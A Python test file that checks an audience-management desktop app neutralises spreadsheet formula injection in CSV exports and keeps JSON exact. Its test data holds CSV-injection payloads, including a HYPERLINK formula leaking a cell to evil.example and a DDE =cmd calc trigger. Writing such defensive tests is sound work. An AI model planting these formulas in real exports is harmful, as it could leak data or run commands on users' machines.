"""CSV exports cannot run formulas: user and server text is neutralised, JSON stays exact.

Both front-end paths are covered: ``audience-cli history --csv`` (in-process) and
``Workspace.export`` (what the window's Export calls), with values created over real
loopback HTTP, against the built-in server and against a hostile one.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from audience_desktop import cli
from audience_desktop.application import AudienceDraft, open_workspace
from audience_desktop.core.history import EXPORT_COLUMNS
from audience_desktop.core.paths import app_paths
from audience_desktop.core.profiles import Profile, ProfileStore
from audience_desktop.localserver.server import LocalAepServer
from tests.integration.conftest import CLIENT_ID, ORG_ID
from tests.support.fixed_answer_server import FixedAnswerServer

# name -> description: formula triggers, harmless look-alikes, and a cell that needs quoting
HOSTILE = {
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")': "=cmd|' /C calc'!A0",
    "+1+2": "@SUM(1,2)",
    "-12": '-2+3, with "quotes"\nand a second line',
    "@home": "plain description",
    "'already quoted": "+33 1 23 45 67 89",
    "Summer buyers": "nothing to neutralise",
}


def cli_run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    code = cli.main(argv)
    out, _ = capsys.readouterr()
    return code, out


def csv_rows(text: str) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(text))
    assert tuple(reader.fieldnames or ()) == EXPORT_COLUMNS
    return list(reader)


def unquote(cell: str) -> str:
    """What a reader does to get the exact value back: drop the one added quote."""
    return cell[1:] if cell.startswith("'") else cell


def create_all(capsys: pytest.CaptureFixture[str]) -> None:
    for name, description in HOSTILE.items():
        code, _ = cli_run(
            ["create", "--profile", "work", f"--name={name}", f"--description={description}",
             "--namespace", "agora", "--origin-name", "Agora_Collab", "--json"],
            capsys,
        )  # fmt: skip
        assert code == 0, name


def test_cli_csv_neutralises_user_text_and_json_keeps_it_exact(
    server: LocalAepServer, profile: Profile, capsys: pytest.CaptureFixture[str]
) -> None:
    create_all(capsys)
    code, out = cli_run(["history", "--csv"], capsys)
    assert code == 0
    rows = {unquote(row["name"]): row for row in csv_rows(out)}
    assert set(rows) == set(HOSTILE)
    for name, description in HOSTILE.items():
        row = rows[name]
        dangerous = name[0] in "=+-@'"
        assert row["name"] == ("'" + name if dangerous else name)
        assert unquote(row["description"]) == description
        assert not row["description"].startswith(("=", "+", "-", "@", "\t"))
        assert row["profile"] == "work" and row["status"] == "succeeded"
    # readable: the quote is the only change, the rest of the cell reads as typed
    assert rows["-12"]["name"] == "'-12" and rows["@home"]["name"] == "'@home"
    assert rows["-12"]["description"] == '\'-2+3, with "quotes"\nand a second line'
    assert rows["Summer buyers"]["description"] == "nothing to neutralise"

    code, out = cli_run(["history", "--json"], capsys)
    exact = {row["name"]: row["description"] for row in json.loads(out)}
    assert exact == HOSTILE


def test_cli_csv_neutralises_what_a_hostile_server_said(
    capsys: pytest.CaptureFixture[str],
) -> None:
    created = {"id": "@SUM(9)", "name": "x", "audienceId": '=HYPERLINK("http://evil.example")'}
    refused = {"error_code": "-1+1", "message": "=cmd|' /C calc'!A0"}
    store = ProfileStore(app_paths().ensure().profiles_file)
    from audience_desktop.core import credentials as secrets

    for name, (status, answer) in {"ok": (200, created), "bad": (400, refused)}.items():
        with FixedAnswerServer(status, answer) as hostile:
            secrets.set_secret(name, secrets.SecretKind.CLIENT_SECRET, "s3cret")
            store.save(Profile(name=name, org_id=ORG_ID, client_id=CLIENT_ID, sandbox="dev",
                               platform_url=hostile.url, ims_url=hostile.ims_url))  # fmt: skip
            cli_run(["create", "--profile", name, "--name", f"From {name}", "--namespace",
                     "agora", "--origin-name", "Agora"], capsys)  # fmt: skip

    code, out = cli_run(["history", "--csv"], capsys)
    assert code == 0
    rows = {row["profile"]: row for row in csv_rows(out)}
    assert rows["ok"]["audienceId"] == "'" + created["audienceId"]
    assert rows["ok"]["id"] == "'@SUM(9)"
    assert rows["bad"]["status"] == "failed" and rows["bad"]["error_code"] == "'-1+1"
    for row in rows.values():
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())

    code, out = cli_run(["history", "--json"], capsys)
    exact = {row["profile"]: row for row in json.loads(out)}
    assert exact["ok"]["audienceId"] == created["audienceId"] and exact["ok"]["id"] == "@SUM(9)"
    assert exact["bad"]["error_code"] == "-1+1"


def test_workspace_export_neutralises_csv_and_keeps_json_exact(
    server: LocalAepServer, profile: Profile
) -> None:
    with open_workspace(app_paths()) as workspace:
        for name, description in HOSTILE.items():
            draft = AudienceDraft(name, "agora", "Agora_Collab", description)
            workspace.create(profile, draft)
        attempts = workspace.attempts()
        as_csv, as_json = io.StringIO(), io.StringIO()
        workspace.export(attempts, as_csv, as_json=False)
        workspace.export(attempts, as_json, as_json=True)

    rows = csv_rows(as_csv.getvalue())
    assert sorted(row["name"] for row in rows) == sorted(
        "'" + name if name[0] in "=+-@'" else name for name in HOSTILE
    )
    assert {unquote(row["name"]): unquote(row["description"]) for row in rows} == HOSTILE
    assert {row["name"]: row["description"] for row in json.loads(as_json.getvalue())} == HOSTILE
